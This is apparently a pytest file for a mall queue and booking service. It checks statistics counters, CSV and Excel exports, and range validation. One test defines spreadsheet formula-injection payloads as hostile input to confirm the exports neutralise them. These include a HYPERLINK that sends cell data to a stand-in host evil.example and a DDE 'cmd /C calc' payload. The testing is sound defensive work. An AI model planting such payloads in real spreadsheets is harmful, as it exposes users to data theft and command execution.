"""Statistics are counters kept as things happen; after a scripted day they equal a recount
of the underlying records (bookings and tickets), and the CSV says the same."""
import csv
import io
from collections import Counter, defaultdict
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from chalicelib.services import queue
from chalicelib.store import floor as floor_store
from chalicelib.store import stats as stats_store
from tests.api.helpers import admin_token, booked, call, staff_token
from tests.api.test_checkin import check_in, walk_in
from tests.api.test_queue import act, call_next

TODAY = "2026-12-07"
M = "/v1/admin/malls/kota-bogor"


def local_hour(epoch: int) -> int:
    return datetime.fromtimestamp(int(epoch), ZoneInfo("Asia/Jakarta")).hour


def minutes(seconds: int) -> int:
    return min(seconds // 60, stats_store.LAST_BUCKET)


def p90(values: list[int]) -> float | None:
    """The recount's own 90th percentile: the nearest-rank p90 of the exact times, in minutes,
    as a range of one minute (the histogram keeps whole minutes, so the answer lies within the
    minute that holds the exact one)."""
    if not values:
        return None
    ranked = sorted(values)
    return min(ranked[max(int(-(-0.9 * len(ranked) // 1)) - 1, 0)] // 60, stats_store.LAST_BUCKET)


def within_minute(reported, exact_minute) -> bool:
    return (reported is None) == (exact_minute is None) and (
        reported is None or exact_minute <= reported <= exact_minute + 1)


def test_the_p90_is_never_read_below_the_times_it_summarises():
    """Ten waits of 14.5 minutes: the p90 was read as 14 (the lower edge of the minute), under
    the mean of 14.5; and one long wait among short ones lifts the p90 only as far as its
    minute."""
    row = {"wait_count": 10, "wait_seconds": 10 * 870, "wait:14": 10}
    assert stats_store.percentile(row, "wait") >= 14.5
    assert stats_store.percentile(row, "wait") <= 15
    row = {"wait_count": 10, "wait:3": 9, "wait:40": 1}
    assert stats_store.percentile(row, "wait") == 4.0  # 90% within the 4th minute
    row = {"wait_count": 10, "wait:3": 8, "wait:40": 2}
    assert 40 <= stats_store.percentile(row, "wait") <= 41


def test_statistics_equal_a_recount_after_a_scripted_day(client, fixed_clock):
    made = {}
    for name, start in (("a", "08:00"), ("b", "08:00"), ("c", "08:00"), ("d", "08:00"),
                        ("e", "08:30"), ("f", "08:30")):
        made[name] = booked(client, date=TODAY, start=start)
    booked(client, date="2026-12-08", start="09:00")  # another day: its own row
    token_b, booking_b = made["b"]
    call(client, "POST", f"/v1/bookings/{booking_b['booking_id']}/cancel", token=token_b)
    fixed_clock.advance(timedelta(hours=1, minutes=5))  # 08:05
    tickets = {name: check_in(client, made[name][1]["code"])[1] for name in ("a", "c", "e")}
    tickets["w1"] = walk_in(client)[1]
    fixed_clock.advance(timedelta(minutes=2))
    tickets["w2"] = walk_in(client, priority=True)[1]
    tickets["w3"] = walk_in(client, "skck")[1]
    staff = staff_token(client)

    def serve(counter, took_minutes, wait_first=3):
        fixed_clock.advance(timedelta(minutes=wait_first))
        ticket = call_next(client, staff, counter)
        act(client, staff, ticket, "start")
        fixed_clock.advance(timedelta(minutes=took_minutes))
        act(client, staff, ticket, "finish")
        return ticket["ticket_number"]

    serve("loket-2", 7)  # w2 (priority)
    serve("loket-2", 12)  # a (booked, slot started)
    fixed_clock.advance(timedelta(minutes=1))
    c = call_next(client, staff, "loket-2")  # c
    act(client, staff, c, "recall"), act(client, staff, c, "recall")
    assert act(client, staff, c, "no-show")[1]["status"] == "no_show"
    serve("loket-2", 5)  # w1: a walk-in at least every third call
    serve("loket-6", 3, wait_first=0)  # w3
    fixed_clock.at = fixed_clock.at.replace(hour=2, minute=0)  # 09:00 WIB: d and f never came
    queue.sweep(fixed_clock.now())

    # --- the recount, from the records themselves ---
    expected: dict = defaultdict(Counter)
    waits, serves = defaultdict(list), defaultdict(list)
    for name, (token, b) in made.items():
        record = call(client, "GET", f"/v1/bookings/{b['booking_id']}", token=token)[1]
        row = expected[(record["date"], record["service_id"])]
        row["bookings"] += 1
        row["cancellations"] += record["status"] == "cancelled"
        row["no_shows"] += record["status"] == "no_show"
    for name, t in tickets.items():
        ticket = floor_store.get_ticket(t["ticket_id"])
        row = expected[(ticket.date, ticket.service_id)]
        row["checkins"] += ticket.kind == "booking"
        row["walkins"] += ticket.kind == "walkin"
        row["served"] += ticket.status == "done"
        row["no_shows"] += ticket.status == "no_show" and ticket.kind == "walkin"
        if ticket.called_at:
            waits[(ticket.date, ticket.service_id)].append(ticket.called_at - ticket.arrived_at)
        if ticket.finished_at and ticket.started_at:
            serves[(ticket.date, ticket.service_id)].append(
                ticket.finished_at - ticket.started_at)
    expected[("2026-12-08", "ktp-el")]["bookings"] += 1

    status, rows = call(client, "GET", f"{M}/stats?from=2026-12-01&to=2026-12-31",
                        token=admin_token(client))
    assert status == 200
    by_key = {(r["date"], r["service_id"]): r for r in rows}
    assert set(by_key) == set(expected)
    for key, counts in expected.items():
        row = by_key[key]
        for counter in stats_store.COUNTS:
            assert row[counter] == counts[counter], (key, counter)
        w, s = waits[key], serves[key]
        assert row["wait_mean_minutes"] == (round(sum(w) / len(w) / 60, 1) if w else None)
        assert within_minute(row["wait_p90_minutes"], p90(w)), key
        assert row["service_mean_minutes"] == (round(sum(s) / len(s) / 60, 1) if s else None)
        assert within_minute(row["service_p90_minutes"], p90(s)), key
    # --- per hour (the mall's local hour) and per counter, against the same records ---
    arrivals, calls, served_at = Counter(), Counter(), Counter()
    for t in tickets.values():
        ticket = floor_store.get_ticket(t["ticket_id"])
        key = (ticket.date, ticket.service_id)
        arrivals[key + (local_hour(ticket.issued_at),)] += 1
        if ticket.called_at:
            calls[key + (local_hour(ticket.called_at),)] += 1
        if ticket.status == "done":
            served_at[key + (ticket.counter_id,)] += 1
    for key, row in by_key.items():
        for h in row["hours"]:
            assert h["arrivals"] == arrivals[key + (h["hour"],)], (key, h)
            assert h["calls"] == calls[key + (h["hour"],)], (key, h)
        assert sum(h["arrivals"] for h in row["hours"]) == row["checkins"] + row["walkins"]
        assert sum(h["calls"] for h in row["hours"]) == len(waits[key])
        assert {c["counter_id"]: c["served"] for c in row["counters"]} == {
            k[2]: n for k, n in served_at.items() if k[:2] == key}
    assert {h["hour"] for r in rows for h in r["hours"]} == {8}
    loket2 = [c for c in by_key[(TODAY, "ktp-el")]["counters"] if c["counter_id"] == "loket-2"]
    assert loket2 and loket2[0]["counter_name"] != "loket-2" and loket2[0]["served"] >= 2
    ktp = by_key[(TODAY, "ktp-el")]
    assert (ktp["bookings"], ktp["cancellations"], ktp["checkins"], ktp["walkins"],
            ktp["served"], ktp["no_shows"]) == (6, 1, 3, 2, 3, 3)  # no-shows: c, d, f

    answer = client.http.get(f"{M}/stats?from={TODAY}&to={TODAY}&format=csv&lang=en",
                             headers={"Authorization": f"Bearer {admin_token(client)}"})
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    lines = answer.body.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Date,Agency ID,Agency,Service ID,Service,Bookings,Moved in")
    assert len(lines) == 1 + sum(1 for (d, _) in expected if d == TODAY)
    # Indonesian-locale Excel: ; between cells, decimal commas, Indonesian headers
    answer = client.http.get(f"{M}/stats?from={TODAY}&to={TODAY}&format=csv&delimiter=semicolon",
                             headers={"Authorization": f"Bearer {admin_token(client)}"})
    assert answer.body.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte order mark
    read = list(csv.DictReader(io.StringIO(answer.body.decode("utf-8-sig")), delimiter=";"))
    mine = next(r for r in read if r["ID layanan"] == "ktp-el")
    assert mine["Booking"] == str(ktp["bookings"]) and mine["Tanggal"] == TODAY
    assert mine["Rata-rata tunggu (menit)"] == str(ktp["wait_mean_minutes"]).replace(".", ",")
    assert "," in mine["Rata-rata tunggu (menit)"] or float(ktp["wait_mean_minutes"]).is_integer()


def test_statistics_need_a_valid_range(client):
    token = admin_token(client)
    for query in ("", "?from=2026-12-01", "?from=2026-12-10&to=2026-12-01",
                  "?from=2026-01-01&to=2027-06-01", "?from=x&to=y"):
        status, body = call(client, "GET", f"{M}/stats{query}", token=token)
        assert (status, body["code"]) == (422, "validation_error"), query


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(client, capsys, tmp_path):
    """OWASP's rule: a cell beginning with = + - @ tab or CR gets a leading quote, in the
    API's CSV and in the command line's export (the names are typed by mall admins)."""
    import csv
    import io

    from chalicelib import cli

    token = admin_token(client)
    hostile = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")": "=",
               "@SUM(1+1)*cmd|' /C calc'!A0": "@", "+62 layanan": "+", "-2+3": "-"}
    assert call(client, "PUT", f"{M}/agencies/bpjs",
                {"name": "@SUM(9*9)", "letter": "E"}, token=token)[0] == 200
    for n, name in enumerate(hostile):
        status, body = call(client, "PUT", f"{M}/services/bad-{n}", {
            "agency_id": "bpjs", "name": name, "slot_minutes": 30, "capacity": 2,
            "walkin_quota": 0}, token=token)
        assert status == 200, body
        booked(client, service_id=f"bad-{n}", date="2026-12-08", start="09:00")
    answer = client.http.get(f"{M}/stats?from=2026-12-08&to=2026-12-08&format=csv&lang=en",
                             headers={"Authorization": f"Bearer {token}"})
    rows = list(csv.DictReader(io.StringIO(answer.body.decode("utf-8-sig"))))
    bad = {r["Service"] for r in rows if r["Service ID"].startswith("bad-")}
    assert bad == {"'" + name for name in hostile}
    assert {r["Agency"] for r in rows if r["Service ID"].startswith("bad-")} \
        == {"'@SUM(9*9)"}
    assert all(r["Bookings"] == "1" for r in rows if r["Service ID"].startswith("bad-"))
    # the command line writes the same text
    target = tmp_path / "stats.csv"
    assert cli.main(["export-stats", "kota-bogor", "2026-12-08", "2026-12-08", "-o",
                     str(target)]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert {r["Layanan"] for r in rows if r["ID layanan"].startswith("bad-")} \
        == {"'" + name for name in hostile}


def test_a_moved_booking_counts_once_on_its_new_day(client):
    """The bookings column counted a moved booking again on its new day (640 for 222 real
    bookings). Now each booking counts once, on the day it is on, with a separate `moved`;
    recounted from the records after a closure and a reschedule."""
    from chalicelib.services import closures

    made = [booked(client, date="2026-12-08", start=start)
            for start in ("09:00", "09:00", "10:00", "11:00")]
    made += [booked(client, date="2026-12-09", start="09:00"),
             booked(client, service_id="skck", date="2026-12-08", start="09:00")]
    token, moved_by_hand = made[3]
    assert call(client, "POST", f"/v1/bookings/{moved_by_hand['booking_id']}/reschedule",
                {"date": "2026-12-10", "start": "13:00"}, token=token)[0] == 200
    token, gone = made[2]
    call(client, "POST", f"/v1/bookings/{gone['booking_id']}/cancel", token=token)
    admin = admin_token(client)
    started = call(client, "POST", f"{M}/closures", {"from": "2026-12-08", "to": "2026-12-08",
                                                    "reason": "Listrik", "service_id": "ktp-el"},
                   token=admin)[1]
    assert closures.work(started["closure_id"]) == "done"

    expected: dict = defaultdict(Counter)
    for token, b in made:
        record = call(client, "GET", f"/v1/bookings/{b['booking_id']}", token=token)[1]
        row = expected[(record["date"], record["service_id"])]
        row["bookings"] += 1
        row["cancellations"] += record["status"] == "cancelled"
        row["moved"] += (b["date"], record["date"]) == ("2026-12-08", "2026-12-09") \
            and b["service_id"] == "ktp-el"
    rows = call(client, "GET", f"{M}/stats?from=2026-12-01&to=2026-12-31", token=admin)[1]
    got = {(r["date"], r["service_id"]): r for r in rows}
    for key, counts in expected.items():
        for name in ("bookings", "cancellations", "moved"):
            assert got[key][name] == counts[name], (key, name, got[key])
    assert sum(r["bookings"] for r in rows) == len(made)  # each booking once
    assert got[("2026-12-08", "ktp-el")]["moved_by_closure"] == 2  # the two 09:00, gone on
    assert got[("2026-12-09", "ktp-el")]["moved"] == 2
    assert got[("2026-12-08", "ktp-el")]["bookings"] == 1  # the cancelled one stays
    assert got[("2026-12-08", "ktp-el")]["rescheduled"] == 1


def test_the_csv_export_names_its_range_and_refuses_unknown_formats(client):
    token = admin_token(client)
    booked(client)
    auth = {"Authorization": f"Bearer {token}"}
    answer = client.http.get(f"{M}/stats?from=2026-12-01&to=2026-12-31&format=csv",
                             headers=auth)
    assert answer.headers["Content-Disposition"] == (
        'attachment; filename="antre-statistik-kota-bogor-2026-12-01_2026-12-31.csv"')
    text = answer.body.decode("utf-8")
    assert text.startswith("\ufeffTanggal,ID instansi,Instansi,ID layanan,Layanan,Booking,")
    english = client.http.get(f"{M}/stats?from=2026-12-01&to=2026-12-31&format=csv",
                              headers={**auth, "Accept-Language": "en"})
    assert english.body.decode("utf-8-sig").startswith("Date,Agency ID")
    assert "antre-stats-kota-bogor-2026-12-01_2026-12-31.csv" in \
        english.headers["Content-Disposition"]
    for query, field in (("format=pdf", "format"), ("format=csv&delimiter=tab", "delimiter"),
                         ("format=csv&lang=fr", "lang")):
        status, body = call(client, "GET", f"{M}/stats?from=2026-12-01&to=2026-12-31&{query}",
                            token=token, headers={"Accept-Language": "en"})
        assert (status, body["code"]) == (422, "validation_error"), query
        assert body["message"].startswith(field + ": must be one of"), body


def test_the_excel_export_opens_in_a_real_reader_with_numbers_dates_and_no_formulas(
        client, capsys, tmp_path):
    """`format=xlsx` answered JSON; then 422. Now a real workbook: openpyxl reads the same
    rows as the JSON, with dates as dates, counts as numbers, headers in the reader's
    language, and a hostile name as text, never as a formula."""
    import openpyxl

    from chalicelib import cli

    token = admin_token(client)
    auth = {"Authorization": f"Bearer {token}"}
    assert call(client, "PUT", f"{M}/agencies/bpjs", {"name": "BPJS", "letter": "E"},
                token=token)[0] == 200
    status, body = call(client, "PUT", f"{M}/services/bad-x", {
        "agency_id": "bpjs", "name": '=HYPERLINK("http://evil.example","Klik")',
        "slot_minutes": 30, "capacity": 2, "walkin_quota": 0}, token=token)
    assert status == 200, body
    booked(client, date="2026-12-08", start="09:00")
    booked(client, service_id="bad-x", date="2026-12-09", start="09:00")
    rows = call(client, "GET", f"{M}/stats?from=2026-12-01&to=2026-12-31", token=token)[1]
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    answer = client.http.get(f"{M}/stats?from=2026-12-01&to=2026-12-31&format=xlsx",
                             headers={**auth, "Accept": xlsx})
    assert answer.status_code == 200 and answer.headers["Content-Type"] == xlsx
    assert answer.headers["Content-Disposition"] == (
        'attachment; filename="antre-statistik-kota-bogor-2026-12-01_2026-12-31.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(answer.body))
    sheet = book["Statistik"]
    table = list(sheet.iter_rows(values_only=True))
    assert table[0][:6] == ("Tanggal", "ID instansi", "Instansi", "ID layanan", "Layanan",
                            "Booking")
    assert len(table) == 1 + len(rows)
    read = [dict(zip(table[0], line)) for line in table[1:]]
    for row, got in zip(rows, read):
        assert got["Tanggal"] == datetime.fromisoformat(row["date"])  # a date, not text
        assert got["ID layanan"] == row["service_id"]
        assert got["Booking"] == row["bookings"] and isinstance(got["Booking"], int)
    bad = next(r for r in read if r["ID layanan"] == "bad-x")
    assert bad["Layanan"] == '=HYPERLINK("http://evil.example","Klik")'
    cell = next(c for c in sheet[1 + read.index(bad) + 1] if c.value == bad["Layanan"])
    assert cell.data_type == "s"  # a string cell: Excel shows it, never runs it
    # English headers and file name on request
    english = client.http.get(f"{M}/stats?from=2026-12-01&to=2026-12-31&format=xlsx&lang=en",
                              headers={**auth, "Accept": xlsx})
    assert openpyxl.load_workbook(io.BytesIO(english.body))["Statistics"]["A1"].value == "Date"
    assert "antre-stats-kota-bogor" in english.headers["Content-Disposition"]
    # without the media type in Accept, API Gateway would send base64 text: a clear 406
    status, body = call(client, "GET", f"{M}/stats?from=2026-12-01&to=2026-12-31&format=xlsx",
                        token=token)
    assert (status, body["code"]) == (406, "not_acceptable")
    assert xlsx in body["message"] and body["message"].startswith("Berkas ini")
    # the command line writes the same workbook into a file (and never to the terminal)
    target = tmp_path / "desember.xlsx"
    assert cli.main(["export-stats", "kota-bogor", "2026-12-01", "2026-12-31", "-o",
                     str(target)]) == 0
    local = list(openpyxl.load_workbook(target)["Statistik"].iter_rows(values_only=True))
    assert local == table
    assert cli.main(["export-stats", "kota-bogor", "2026-12-01", "2026-12-31", "--xlsx"]) == 1
    assert "-o FILE.xlsx" in capsys.readouterr().err
